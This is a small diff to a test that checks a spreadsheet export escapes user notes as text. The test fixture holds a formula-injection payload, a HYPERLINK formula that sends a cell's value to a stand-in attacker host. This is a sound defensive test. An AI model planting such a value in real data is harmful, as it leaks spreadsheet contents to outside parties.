@@ -169,7 +169,7 @@ def test_an_exported_note_is_text_not_a_formula(cast, client_for):
         note='=HYPERLINK("http://evil.example/?"&E2,"点击")',
     )
     r = client_for(cast.admin_a).get(reverse("census:area-export", args=[cast.compound_a.pk]))
-    sheet = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
+    sheet = zipfile.ZipFile(io.BytesIO(r.getvalue())).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet, "the note became a live formula in the export"
 
 
